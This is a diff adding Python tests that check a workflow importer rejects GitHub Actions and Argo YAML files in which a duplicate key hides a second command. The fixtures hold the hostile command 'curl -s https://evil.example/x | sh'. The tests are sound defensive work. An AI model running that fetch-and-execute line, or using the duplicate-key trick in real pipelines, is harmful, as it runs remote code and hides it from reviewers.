@@ -129,3 +129,32 @@ def test_load_yaml_errors_are_lodec_errors() -> None:
         with pytest.raises(LodecError) as info:
             load_yaml(bad, file="x.yml")
         assert "\n" not in str(info.value)
+
+
+@pytest.mark.parametrize("importer, text", [
+    (lambda t: import_workflow_text(t, filename="dup.yml"),
+     "on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n"
+     "      - name: build\n        run: make build\n        run: curl -s https://evil.example/x | sh\n"),
+    (lambda t: import_workflow_text(t, filename="dup.yml"),
+     "on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n"
+     "      - run: make build\n        \"run\": curl -s https://evil.example/x | sh\n"),
+    (lambda t: import_argo_text(t, filename="dup.yaml"),
+     "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {name: w}\nspec:\n  entrypoint: main\n"
+     "  templates:\n    - name: main\n      container: {image: alpine, command: [echo, ok], command: [sh, -c, evil]}\n"),
+], ids=["github-actions-run-twice", "github-actions-quoted-twin", "argo-command-twice"])
+def test_attack_a_duplicate_key_hiding_the_imported_command_is_refused(importer: Callable[[str], object],
+                                                                      text: str) -> None:
+    """A key given twice in one mapping: a reviewer reads the first ``run:``, PyYAML keeps the last (the one
+    lodec would pin), GitHub Actions and Argo refuse the file. lodec refuses it too, naming the key and line."""
+    with pytest.raises(SourceError) as info:
+        importer(text)
+    message = str(info.value)
+    assert "twice" in message and "line " in message and "\n" not in message, message
+    assert load_yaml("a: 1\nb: 2\n", file="ok.yml") == {"a": 1, "b": 2}  # distinct keys load as before
+
+
+def test_duplicate_keys_are_judged_by_value_not_spelling() -> None:
+    for text in ("a: 1\n'a': 2\n", "1: x\n0x1: y\n", "true: x\nTrue: y\n"):
+        with pytest.raises(SourceError, match="twice"):
+            load_yaml(text, file="dup.yml")
+    assert load_yaml("1: x\n'1': y\n", file="ok.yml") == {1: "x", "1": "y"}  # an int and a string differ
